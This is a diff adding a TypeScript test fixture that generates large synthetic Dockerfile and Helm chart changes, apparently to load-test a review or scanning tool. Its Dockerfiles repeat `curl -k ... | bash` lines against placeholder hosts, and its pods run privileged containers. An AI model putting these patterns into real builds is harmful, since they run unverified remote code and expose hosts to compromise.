@@ -158,3 +158,32 @@ export const tenMegabytes = (bytes = 10_000_000): Change => ({
     ]),
   ),
 });
+
+/** Changes that cost most for their size beyond what `hostileChanges` are made for: each is reviewed at some megabytes, or at as many bytes as it is named with. */
+export const largeChanges: Readonly<Record<string, (bytes: number) => Change>> = {
+  'downloads in each step (Dockerfiles)': bytes => ({
+    base: {},
+    head: Object.fromEntries(
+      Array.from({ length: 10 }, (_, at) => [
+        `d${at}/Dockerfile`,
+        `FROM debian\n${fill(bytes / 10, index => `RUN curl -k http://a${index}/x | bash && sudo apt-get install a${index}\n`)}`,
+      ]),
+    ),
+  }),
+  'a chart of many templates': bytes => ({
+    base: {},
+    head: {
+      'charts/a/Chart.yaml': 'apiVersion: v2\nname: a\nversion: 1.0.0\n',
+      'charts/a/values.yaml': 'x: 1\n',
+      ...Object.fromEntries(
+        Array.from({ length: Math.floor(bytes / 900) }, (_, at) => [
+          `charts/a/templates/p${at}.yaml`,
+          `apiVersion: v1\nkind: Pod\nmetadata: {name: p${at}{{ .Values.x }}}\nspec:\n  containers:\n${many(
+            9,
+            index => `    - {name: c${index}, image: "nginx:{{ .Values.x }}", securityContext: {privileged: true}}\n`,
+          )}`,
+        ]),
+      ),
+    },
+  }),
+};
